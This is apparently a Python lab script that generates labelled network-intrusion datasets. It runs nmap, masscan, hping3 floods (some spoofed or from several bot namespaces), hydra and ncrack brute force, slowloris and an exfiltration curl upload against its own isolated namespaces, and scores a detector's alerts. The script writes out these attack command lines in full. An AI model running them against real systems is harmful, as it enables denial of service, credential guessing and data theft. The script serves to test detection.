#!/usr/bin/env python3
"""The attack lab: real attack tools against real services in network namespaces this
script creates, with benign clients in the background, captured on the LAN's bridge (a
SPAN port), and labelled from the tools' own start and end times.

    sudo scripts/lab/lab.py --out DIR [--seed N] [--attacks a,b,...] [--list]

Writes DIR/capture.pcap, DIR/labels.csv (the episode format of datasets/README.md) and
DIR/lab.json (what ran, with which options and exit codes). `workbench eval --dataset
DIR` then scores it. Nothing leaves the namespaces: they have no default route, every
tool run is bounded by a packet count and `timeout`, and every namespace, server and
capture is removed at the end, also on failure or Ctrl-C.

Needs root and the Debian packages named by `--check` (scripts/test.sh installs them).
"""

import argparse
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
NET = "10.77.0"
WEB, BULK, ATK = f"{NET}.10", f"{NET}.11", f"{NET}.66"

TOOLS = {  # binary -> Debian package
    "ip": "iproute2", "tcpdump": "tcpdump", "nmap": "nmap", "hping3": "hping3",
    "masscan": "masscan", "hydra": "hydra", "ncrack": "ncrack",
    "slowhttptest": "slowhttptest", "ab": "apache2-utils", "nc": "netcat-openbsd",
    "iperf3": "iperf3", "curl": "curl", "ethtool": "ethtool", "ping": "iputils-ping",
    "/usr/sbin/sshd": "openssh-server", "ssh": "openssh-client",
    "dnsmasq": "dnsmasq-base", "ssh-keygen": "openssh-client",
}


def log(msg):
    print(f"[lab {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


class Lab:
    """Namespaces, services and processes; `close()` undoes all of it."""

    def __init__(self, n_clients, n_bots, workdir, prefix=None):
        self.prefix = prefix or f"wl{os.getpid() % 100000}"
        self.lan = f"{self.prefix}lan"
        self.workdir = workdir
        self.namespaces = []
        self.procs = []  # (name, Popen) we started, stopped by PID
        self.hosts = {"web": WEB, "bulk": BULK, "atk": ATK}
        for i in range(n_clients):
            self.hosts[f"c{i + 1}"] = f"{NET}.{21 + i}"
        for i in range(n_bots):
            self.hosts[f"bot{i + 1}"] = f"{NET}.{71 + i}"

    def ns(self, host):
        return f"{self.prefix}{host}"

    def sh(self, *cmd, check=True):
        r = subprocess.run(cmd, capture_output=True, text=True)
        if check and r.returncode != 0:
            raise RuntimeError(f"{' '.join(cmd)}: exit {r.returncode}: {r.stderr.strip()}")
        return r

    def up(self):
        self.sh("ip", "netns", "add", self.lan)
        self.namespaces.append(self.lan)
        self.sh("ip", "-n", self.lan, "link", "add", "br0", "type", "bridge")
        self.sh("ip", "-n", self.lan, "link", "set", "br0", "up")
        for i, (host, addr) in enumerate(self.hosts.items()):
            ns = self.ns(host)
            self.sh("ip", "netns", "add", ns)
            self.namespaces.append(ns)
            a, b = f"{self.prefix}{i}a", f"{self.prefix}{i}b"
            self.sh("ip", "link", "add", a, "type", "veth", "peer", "name", b)
            self.sh("ip", "link", "set", a, "netns", ns)
            self.sh("ip", "link", "set", b, "netns", self.lan)
            self.sh("ip", "-n", ns, "link", "set", a, "name", "eth0")
            self.sh("ip", "-n", ns, "addr", "add", f"{addr}/24", "dev", "eth0")
            self.sh("ip", "-n", ns, "link", "set", "eth0", "up")
            self.sh("ip", "-n", ns, "link", "set", "lo", "up")
            self.sh("ip", "-n", self.lan, "link", "set", b, "master", "br0")
            self.sh("ip", "-n", self.lan, "link", "set", b, "up")
            # Frames as a NIC puts them on the wire: no 64 KB segmentation-offload
            # super-packets in the capture.
            self.sh("ip", "netns", "exec", ns, "ethtool", "-K", "eth0", "tso", "off",
                    "gso", "off", "gro", "off", check=False)
        log(f"{len(self.hosts)} hosts on {NET}.0/24 (namespaces {self.prefix}*)")

    def spawn(self, name, host, cmd, **kw):
        full = ["ip", "netns", "exec", self.ns(host) if host != "lan" else self.lan] + cmd
        out = open(os.path.join(self.workdir, f"{name}.log"), "wb")
        p = subprocess.Popen(full, stdout=out, stderr=subprocess.STDOUT,
                             start_new_session=True, **kw)
        self.procs.append((name, p))
        return p

    def run(self, host, cmd, timeout_s):
        """A bounded tool run: `timeout` inside the namespace, and our own wait as well."""
        full = ["ip", "netns", "exec", self.ns(host), "timeout", "-s", "INT", "-k", "3",
                str(timeout_s)] + cmd
        try:
            r = subprocess.run(full, capture_output=True, timeout=timeout_s + 10)
            return r.returncode, (r.stdout + r.stderr).decode(errors="replace")[-2000:]
        except subprocess.TimeoutExpired:
            return 124, "timed out"

    def stop(self, name, p, sig=signal.SIGTERM):
        if p.poll() is None:
            try:
                os.killpg(p.pid, sig)
            except ProcessLookupError:
                pass
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
                p.wait()

    def close(self):
        for name, p in reversed(self.procs):
            self.stop(name, p)
        self.procs.clear()
        for ns in reversed(self.namespaces):
            self.sh("ip", "netns", "del", ns, check=False)
        self.namespaces.clear()


def start_services(lab, work):
    key = os.path.join(work, "client_key")
    hostkey = os.path.join(work, "host_key")
    lab.sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
    lab.sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", hostkey)
    shutil.copy(key + ".pub", os.path.join(work, "authorized_keys"))
    os.chmod(work, 0o755)
    cfg = os.path.join(work, "sshd_config")
    # Password authentication is offered (brute-force tools need that), but no password
    # can ever succeed: root may log in by key only, and `admin` and friends don't exist.
    with open(cfg, "w") as f:
        f.write(f"""Port 22
ListenAddress {WEB}
HostKey {hostkey}
PidFile {work}/sshd.pid
AuthorizedKeysFile {work}/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 64:30:200
MaxAuthTries 6
LogLevel ERROR
""")
    os.makedirs("/run/sshd", exist_ok=True)
    lab.spawn("sshd", "web", ["/usr/sbin/sshd", "-D", "-e", "-f", cfg])
    lab.spawn("dnsmasq", "web", [
        "dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
        f"--listen-address={WEB}", "--bind-interfaces", "--user=root",
        f"--address=/lab.test/{BULK}", f"--pid-file={work}/dnsmasq.pid"])
    py = sys.executable
    lab.spawn("httpd-web", "web", [py, f"{HERE}/httpd.py", "--bind", WEB, "--port", "80"])
    lab.spawn("httpd-web-8080", "web", [py, f"{HERE}/httpd.py", "--bind", WEB, "--port", "8080"])
    lab.spawn("httpd-bulk", "bulk", [py, f"{HERE}/httpd.py", "--bind", BULK, "--port", "80"])
    lab.spawn("iperf3", "bulk", ["iperf3", "-s", "-B", BULK])
    # The attacker's drop box for exfiltration.
    lab.spawn("httpd-atk", "atk", [py, f"{HERE}/httpd.py", "--bind", ATK, "--port", "443"])
    # Wait until the web server answers.
    for _ in range(50):
        code, _ = lab.run("atk", ["curl", "-s", "-o", "/dev/null", f"http://{WEB}/"], 2)
        if code == 0:
            break
        time.sleep(0.2)
    else:
        raise RuntimeError("the lab's web server did not come up")
    return key


def wordlist(rng, n):
    common = ["123456", "password", "admin", "root", "qwerty", "letmein", "changeme",
              "welcome", "monkey", "dragon", "111111", "abc123", "toor", "pass", "test",
              "guest", "master", "shadow", "login", "princess", "secret", "ubuntu"]
    syll = ["ka", "ro", "mi", "te", "lu", "sa", "no", "vi", "da", "pe", "zu", "ha"]
    words = list(common)
    while len(words) < n:
        words.append("".join(rng.choice(syll) for _ in range(rng.randint(2, 4)))
                     + str(rng.randint(0, 99)))
    return words[:n]


# --- the attack catalogue ------------------------------------------------------------
# Each entry: name -> function(rng) returning (attack_type, attacker, victim, runs, detail)
# where runs is a list of (host, argv, timeout_s) started together.

def a_nmap_syn(rng):
    t = rng.choice(["-T3", "-T4", "-T4", "-T5"])
    ports = rng.choice(["-p1-1000", "--top-ports=1000", "-p1-3000", "--top-ports=200"])
    return "port_scan", ATK, WEB, [("atk", ["nmap", "-n", "-sS", t, ports, WEB], 60)], \
        f"nmap -sS {t} {ports}"


def a_nmap_connect(rng):
    t = rng.choice(["-T3", "-T4"])
    ports = rng.choice(["--top-ports=500", "-p1-1024", "--top-ports=100"])
    victim = rng.choice([WEB, BULK])
    return "port_scan", ATK, victim, [("atk", ["nmap", "-n", "-sT", t, ports, victim], 60)], \
        f"nmap -sT {t} {ports}"


def a_nmap_udp(rng):
    n = rng.choice([20, 30, 50])
    return "port_scan", ATK, WEB, [("atk", ["nmap", "-n", "-sU", "-T4", f"--top-ports={n}",
                                            "--max-retries=1", WEB], 60)], \
        f"nmap -sU top {n}"


def a_nmap_stealth(rng):
    kind = rng.choice(["-sF", "-sN", "-sX", "-sA"])
    return "port_scan", ATK, BULK, [("atk", ["nmap", "-n", kind, "-T4", "-p1-1000",
                                             "--max-retries=1", BULK], 60)], \
        f"nmap {kind} -p1-1000"


def a_nmap_sweep(rng):
    kind = rng.choice([["-sn"], ["-sn", "-PE"], ["-sn", "-PS22,80,443"]])
    return "port_scan", ATK, "*", [("atk", ["nmap", "-n", *kind, "-T4", f"{NET}.0/24"], 60)], \
        f"nmap {' '.join(kind)} {NET}.0/24"


def a_nmap_horizontal(rng):
    ports = rng.choice(["22,80,443", "22,23,80,443,445,3389", "80,8080"])
    return "port_scan", ATK, "*", [("atk", ["nmap", "-n", "-sS", "-T4", "-p", ports,
                                            f"{NET}.0/24"], 60)], \
        f"nmap -sS -p {ports} {NET}.0/24"


def a_nmap_version(rng):
    return "port_scan", ATK, WEB, [("atk", ["nmap", "-n", "-sV", "-T4", "--top-ports=100",
                                            WEB], 90)], "nmap -sV top 100"


def a_nmap_slow(rng):
    n = rng.choice([40, 60])
    return "port_scan", ATK, WEB, [("atk", ["nmap", "-n", "-sS", "-T2", f"-p1-{n}", WEB], 60)], \
        f"nmap -sS -T2 -p1-{n}"


def a_nmap_os(rng):
    return "port_scan", ATK, WEB, [("atk", ["nmap", "-n", "-O", "-T4", "--top-ports=200",
                                            WEB], 60)], "nmap -O top 200"


def a_masscan(rng):
    rate = rng.choice([500, 1000, 3000])
    return "port_scan", ATK, BULK, [("atk", ["masscan", BULK, "-p1-4000", "--rate", str(rate),
                                             "--wait", "1", "-e", "eth0",
                                             "--router-ip", BULK], 40)], \
        f"masscan -p1-4000 --rate {rate}"


def a_hping_scan(rng):
    return "port_scan", ATK, WEB, [("atk", ["hping3", "-S", "--scan", "1-1000", "-V", WEB], 40)], \
        "hping3 --scan 1-1000"


def _interval(rng):
    return rng.choice(["u200", "u500", "u1000", "u2000"])


def a_syn_flood(rng):
    i, c = _interval(rng), rng.choice([4000, 8000, 15000])
    return "syn_flood", ATK, WEB, [("atk", ["hping3", "-q", "-S", "-p", "80", "-i", i, "-c",
                                            str(c), WEB], 60)], f"hping3 -S -i {i} -c {c}"


def a_syn_flood_spoofed(rng):
    i, c = _interval(rng), rng.choice([4000, 8000, 15000])
    return "syn_flood", "*", WEB, [("atk", ["hping3", "-q", "-S", "--rand-source", "-p", "80",
                                            "-i", i, "-c", str(c), WEB], 60)], \
        f"hping3 -S --rand-source -i {i} -c {c}"


def a_udp_flood(rng):
    i, c = _interval(rng), rng.choice([4000, 8000, 15000])
    d = rng.choice([64, 256, 512, 1200])
    port = rng.choice(["53", "123", "9999"])
    return "udp_flood", ATK, BULK, [("atk", ["hping3", "-q", "--udp", "-p", port, "-d", str(d),
                                             "-i", i, "-c", str(c), BULK], 60)], \
        f"hping3 --udp -p {port} -d {d} -i {i} -c {c}"


def a_udp_flood_spoofed(rng):
    i, c = _interval(rng), rng.choice([4000, 8000])
    return "udp_flood", "*", BULK, [("atk", ["hping3", "-q", "--udp", "--rand-source", "-p",
                                             "53", "-d", "128", "-i", i, "-c", str(c), BULK],
                                     60)], f"hping3 --udp --rand-source -i {i} -c {c}"


def a_icmp_flood(rng):
    i, c = _interval(rng), rng.choice([4000, 8000])
    return "icmp_flood", ATK, WEB, [("atk", ["hping3", "-q", "--icmp", "-d", "512", "-i", i,
                                             "-c", str(c), WEB], 60)], \
        f"hping3 --icmp -d 512 -i {i} -c {c}"


def a_ddos(rng, n_bots):
    i, c = rng.choice(["u500", "u1000", "u2000"]), rng.choice([3000, 6000])
    flags = rng.choice([["-S", "-p", "80"], ["--udp", "-p", "53", "-d", "200"],
                        ["-A", "-p", "443"]])
    runs = [(f"bot{b + 1}", ["hping3", "-q", *flags, "-i", i, "-c", str(c), WEB], 60)
            for b in range(n_bots)]
    return "ddos", "*", WEB, runs, f"{n_bots} bots: hping3 {' '.join(flags)} -i {i} -c {c}"


def a_hydra_ssh(rng, words):
    t = rng.choice(["4", "8"])
    return "brute_force", ATK, WEB, [("atk", ["hydra", "-I", "-t", t, "-l", "admin", "-P",
                                              words, f"ssh://{WEB}"], rng.choice([20, 30, 45]))], f"hydra ssh -t {t}"


def a_ncrack_ssh(rng, words):
    return "brute_force", ATK, WEB, [("atk", ["ncrack", "-T4", "--user", "admin,root", "-P",
                                              words, f"ssh://{WEB}"], rng.choice([20, 30, 45]))], "ncrack ssh"


def a_hydra_http(rng, words):
    t = rng.choice(["8", "16"])
    return "brute_force", ATK, WEB, [("atk", ["hydra", "-I", "-t", t, "-l", "admin", "-P", words,
                                              "-s", "8080", WEB, "http-get", "/admin"], 60)], \
        f"hydra http-get -t {t}"


def a_slowloris(rng):
    c = rng.choice([150, 300])
    return "dos", ATK, WEB, [("atk", ["slowhttptest", "-H", "-c", str(c), "-i", "5", "-r", "100",
                                      "-l", "20", "-u", f"http://{WEB}/"], 40)], \
        f"slowhttptest slowloris -c {c}"


def a_http_flood(rng):
    n, c = rng.choice([5000, 15000]), rng.choice([16, 64])
    return "dos", ATK, WEB, [("atk", ["ab", "-q", "-n", str(n), "-c", str(c), "-s", "5",
                                      f"http://{WEB}/index.html"], 60)], f"ab -n {n} -c {c}"


def a_exfil(rng, client, client_ip, work):
    mb = rng.choice([32, 64, 128])
    rate = rng.choice(["", "4M", "10M"])
    blob = os.path.join(work, f"exfil-{mb}.bin")
    if not os.path.exists(blob):
        with open(blob, "wb") as f:
            f.truncate(mb << 20)
    cmd = ["curl", "-s", "-o", "/dev/null", "-T", blob] + (
        ["--limit-rate", rate] if rate else []) + [f"http://{ATK}:443/drop"]
    return "data_exfiltration", client_ip, ATK, [(client, cmd, 40)], \
        f"curl upload {mb} MB" + (f" at {rate}/s" if rate else "")


CATALOGUE = [
    "nmap-syn", "nmap-connect", "nmap-udp", "nmap-stealth", "nmap-sweep", "nmap-horizontal",
    "nmap-version",
    "nmap-slow", "nmap-os", "masscan", "hping-scan", "syn-flood", "syn-flood-spoofed",
    "udp-flood", "udp-flood-spoofed", "icmp-flood", "ddos", "hydra-ssh", "ncrack-ssh",
    "hydra-http", "slowloris", "http-flood", "exfil",
]


def build(name, rng, words, n_bots, lab):
    f = {
        "nmap-syn": a_nmap_syn, "nmap-connect": a_nmap_connect, "nmap-udp": a_nmap_udp,
        "nmap-stealth": a_nmap_stealth, "nmap-sweep": a_nmap_sweep,
        "nmap-horizontal": a_nmap_horizontal,
        "nmap-version": a_nmap_version, "nmap-slow": a_nmap_slow, "nmap-os": a_nmap_os,
        "masscan": a_masscan, "hping-scan": a_hping_scan, "syn-flood": a_syn_flood,
        "syn-flood-spoofed": a_syn_flood_spoofed, "udp-flood": a_udp_flood,
        "udp-flood-spoofed": a_udp_flood_spoofed, "icmp-flood": a_icmp_flood,
        "slowloris": a_slowloris, "http-flood": a_http_flood,
    }.get(name)
    if f:
        return f(rng)
    if name == "ddos":
        return a_ddos(rng, n_bots)
    if name in ("hydra-ssh", "ncrack-ssh", "hydra-http"):
        return {"hydra-ssh": a_hydra_ssh, "ncrack-ssh": a_ncrack_ssh,
                "hydra-http": a_hydra_http}[name](rng, words)
    if name == "exfil":
        client = rng.choice([h for h in lab.hosts if h.startswith("c")])
        return a_exfil(rng, client, lab.hosts[client], lab.workdir)
    raise ValueError(name)


def parse_ts(text):
    """RFC 3339 UTC (tracing's JSON timestamps) -> epoch seconds."""
    import datetime
    t = text.rstrip("Z")
    frac = 0.0
    if "." in t:
        t, f = t.split(".", 1)
        frac = float("0." + f)
    return datetime.datetime.strptime(t, "%Y-%m-%dT%H:%M:%S").replace(
        tzinfo=datetime.timezone.utc).timestamp() + frac


def score_live(log_path, episodes, hosts):
    """Alerts `workbench live` raised (its --log-format json lines) against the episodes.
    An alert is firing from its `firing` event to its `resolved` event (or the end). An
    episode is alerted when an alert on its attacker (or, for floods from spoofed or many
    sources, its victim) is firing between 1 s before its start and 5 s after its end (a
    window is 2 s and closes every 0.5 s); its delay is from the tool's start to that
    alert's first firing (0 when the host was already alerting from an earlier attack).
    Alerts no episode explains are false alerts."""
    events = []
    for line in open(log_path, errors="replace"):
        try:
            d = json.loads(line)
        except ValueError:
            continue
        if d.get("state") in ("firing", "resolved") and d.get("src"):
            events.append((parse_ts(d["timestamp"]), d["state"], d["src"],
                           d.get("threat_type"), d.get("score")))
    events.sort(key=lambda e: e[0])
    alerts, open_ = [], {}
    for ts, state, src, tt, score in events:
        key = (src, tt)
        if state == "firing" and key not in open_:
            open_[key] = len(alerts)
            alerts.append({"src": src, "threat_type": tt, "score": score, "fired": ts,
                           "resolved": None})
        elif state == "resolved" and key in open_:
            alerts[open_.pop(key)]["resolved"] = ts

    def sides(e):
        t, atk, vic = e[0], e[1], e[2]
        out = set()
        if atk != "*":
            out.add(atk)
        if vic != "*" and t in ("syn_flood", "udp_flood", "ddos") and (atk == "*" or t == "ddos"):
            out.add(vic)
        return out

    result, explained = [], set()
    for e in episodes:
        t, atk, vic, start, end, detail = e
        who = sides(e)
        first = None
        for i, a in enumerate(alerts):
            until = a["resolved"] if a["resolved"] is not None else float("inf")
            if a["src"] in who and a["fired"] <= end + 5 and until >= start - 1:
                explained.add(i)
                if first is None or a["fired"] < first:
                    first = a["fired"]
        result.append({"attack_type": t, "attacker": atk, "victim": vic, "detail": detail,
                       "alerted": first is not None,
                       "delay_s": None if first is None else round(max(0.0, first - start), 3)})
    lan = set(hosts.values())
    false = [a for i, a in enumerate(alerts) if i not in explained]
    return {"alerts": len(alerts), "episodes": result, "false_alerts": false,
            "false_alerts_lan_hosts": sum(1 for a in false if a["src"] in lan)}


def check_tools():
    missing = sorted({pkg for tool, pkg in TOOLS.items() if shutil.which(tool) is None})
    return missing


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", help="output directory (capture.pcap, labels.csv, lab.json)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--attacks", default="all",
                    help="comma-separated names from --list, 'all' (shuffled by seed), or "
                         "'none' (benign traffic only, for --seconds)")
    ap.add_argument("--seconds", type=float, default=120,
                    help="length of a benign-only run (--attacks none)")
    ap.add_argument("--clients", type=int, default=4, help="benign client hosts")
    ap.add_argument("--bots", type=int, default=4, help="DDoS bot hosts")
    ap.add_argument("--warmup", type=float, default=10, help="benign-only seconds first")
    ap.add_argument("--gap", type=float, nargs=2, default=[5, 12],
                    help="benign-only seconds between attacks (uniform range)")
    ap.add_argument("--live", metavar="WORKBENCH",
                    help="also run `WORKBENCH live --iface br0` on the LAN bridge (the "
                         "shipped model, alerts to its log) and score its alerts against "
                         "the episodes: DIR/live.json, DIR/live.log")
    ap.add_argument("--live-arg", action="append", default=[], metavar="ARG",
                    help="extra argument for `workbench live` (repeat)")
    ap.add_argument("--prefix", help="namespace name prefix (default wl<pid>; at most 8 "
                    "characters, interface names are limited to 15)")
    ap.add_argument("--snaplen", type=int, default=128,
                    help="bytes kept per frame (headers are all the features read)")
    ap.add_argument("--list", action="store_true", help="print the attack catalogue")
    ap.add_argument("--check", action="store_true",
                    help="print the Debian packages that are missing and exit")
    a = ap.parse_args()
    if a.list:
        print("\n".join(CATALOGUE))
        return 0
    missing = check_tools()
    if a.check:
        print(" ".join(missing))
        return 1 if missing else 0
    if missing:
        sys.exit(f"lab: missing tools; install the Debian packages: {' '.join(missing)}")
    if os.geteuid() != 0:
        sys.exit("lab: needs root (network namespaces, raw sockets)")
    if not a.out:
        sys.exit("lab: --out DIR is required")
    names = (CATALOGUE[:] if a.attacks == "all" else [] if a.attacks == "none"
             else [s.strip() for s in a.attacks.split(",")])
    bad = [n for n in names if n not in CATALOGUE]
    if bad:
        sys.exit(f"lab: unknown attacks {bad}; --list shows the catalogue")
    rng = random.Random(a.seed)
    if a.attacks == "all":
        rng.shuffle(names)
    os.makedirs(a.out, exist_ok=True)
    work = tempfile.mkdtemp(prefix="wblab-")
    words = os.path.join(work, "words.txt")
    with open(words, "w") as f:
        f.write("\n".join(wordlist(rng, rng.choice([80, 150, 300]))) + "\n")
    if a.prefix and (len(a.prefix) > 8 or not a.prefix.isalnum()):
        sys.exit("lab: --prefix must be at most 8 letters or digits")
    lab = Lab(a.clients, a.bots, work, a.prefix)
    clients = [h for h in lab.hosts if h.startswith("c")]
    episodes, runs_log = [], []
    pcap = os.path.join(os.path.abspath(a.out), "capture.pcap")

    def on_signal(signum, frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    try:
        lab.up()
        key = start_services(lab, work)
        cap = lab.spawn("tcpdump", "lan", ["tcpdump", "-i", "br0", "-n", "-s", str(a.snaplen),
                                           "--immediate-mode", "-U", "-w", pcap])
        live = None
        if a.live:
            live_log = os.path.join(os.path.abspath(a.out), "live.log")
            live = lab.spawn("live", "lan", [os.path.abspath(a.live), "live", "--iface", "br0",
                                             "--listen", "127.0.0.1:0", "--log-format",
                                             "json", *a.live_arg])
            live_log_src = os.path.join(work, "live.log")
            # Wait until the pipeline says it is up (its first line), at most 15 s.
            for _ in range(150):
                if os.path.getsize(live_log_src) > 0 or live.poll() is not None:
                    break
                time.sleep(0.1)
            if live.poll() is not None:
                raise RuntimeError("workbench live exited: "
                                   + open(live_log_src, errors="replace").read()[-2000:])
            time.sleep(1.0)
        time.sleep(1.0)
        budget = 3600
        for i, c in enumerate(clients):
            activity = rng.choice([0.3, 0.6, 1.0, 2.0])
            lab.spawn(f"benign-{c}", c, [sys.executable, f"{HERE}/benign.py", "--seed",
                                         str(a.seed * 100 + i), "--seconds", str(budget),
                                         "--web", WEB, "--bulk", BULK, "--ssh-key", key,
                                         "--activity", str(activity)])
        log(f"benign clients running; warm-up {a.warmup:.0f} s")
        time.sleep(a.warmup if names else a.seconds)
        for name in names:
            attack_type, attacker, victim, runs, detail = build(name, rng, words, a.bots, lab)
            log(f"{name}: {detail}")
            start = time.time()
            procs = []
            for host, argv, t in runs:
                full = ["ip", "netns", "exec", lab.ns(host), "timeout", "-s", "INT", "-k",
                        "3", str(t)] + argv
                procs.append(subprocess.Popen(full, stdout=subprocess.PIPE,
                                              stderr=subprocess.STDOUT, cwd=work,
                                              start_new_session=True))
            codes, tails = [], []
            for p in procs:
                try:
                    out, _ = p.communicate(timeout=max(t for _, _, t in runs) + 10)
                except subprocess.TimeoutExpired:
                    os.killpg(p.pid, signal.SIGKILL)
                    out, _ = p.communicate()
                codes.append(p.returncode)
                tails.append(out.decode(errors="replace")[-600:])
            end = time.time()
            episodes.append((attack_type, attacker, victim, start, end, f"{name}: {detail}"))
            if attacker == "*" and attack_type == "ddos":
                # The bots are on our LAN and each one floods: each is an attacker too
                # (the `*` episode keeps the victim positive, as public DDoS labels do).
                for host, _, _ in runs:
                    episodes.append((attack_type, lab.hosts[host], victim, start, end,
                                     f"{name}: bot {host}"))
            runs_log.append({"name": name, "detail": detail, "start": start, "end": end,
                             "exit_codes": codes, "output_tail": tails})
            # 124: stopped by its time bound (brute force runs until then, by design).
            if any(c not in (0, 1, 124) for c in codes):
                log(f"  {name} exited {codes}: {tails[0][-300:]!r}")
            time.sleep(rng.uniform(*a.gap))
        time.sleep(2.0)
        lab.stop("tcpdump", cap, signal.SIGINT)
        if live is not None:
            lab.stop("live", live, signal.SIGTERM)
            shutil.copy(os.path.join(work, "live.log"), live_log)
    finally:
        lab.close()
        shutil.rmtree(work, ignore_errors=True)
    with open(os.path.join(a.out, "labels.csv"), "w") as f:
        f.write("attack_type,attacker_ip,victim_ip,start_ts,end_ts,detail\n")
        for t, atk, vic, s, e, d in episodes:
            f.write(f'{t},{atk},{vic},{s:.6f},{e:.6f},"{d}"\n')
    versions = {}
    for tool, arg in [("nmap", "--version"), ("hping3", "--version"), ("hydra", "-h")]:
        r = subprocess.run([tool, arg], capture_output=True, text=True)
        versions[tool] = (r.stdout or r.stderr).strip().splitlines()[0][:80] if (
            r.stdout or r.stderr) else ""
    with open(os.path.join(a.out, "lab.json"), "w") as f:
        json.dump({"seed": a.seed, "clients": a.clients, "bots": a.bots, "net": f"{NET}.0/24",
                   "hosts": lab.hosts, "runs": runs_log, "tools": versions}, f, indent=1)
    log(f"wrote {pcap} and {len(episodes)} episodes")
    if a.live:
        scored = score_live(live_log, episodes, lab.hosts)
        with open(os.path.join(a.out, "live.json"), "w") as f:
            json.dump(scored, f, indent=1)
        hit = [e for e in scored["episodes"] if e["alerted"]]
        delays = sorted(e["delay_s"] for e in hit)
        log(f"live: {len(hit)}/{len(episodes)} episodes alerted"
            + (f", delay median {delays[len(delays) // 2]:.2f} s, max {delays[-1]:.2f} s"
               if delays else "")
            + f"; {len(scored['false_alerts'])} false alerts "
              f"({scored['false_alerts_lan_hosts']} on lab hosts)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
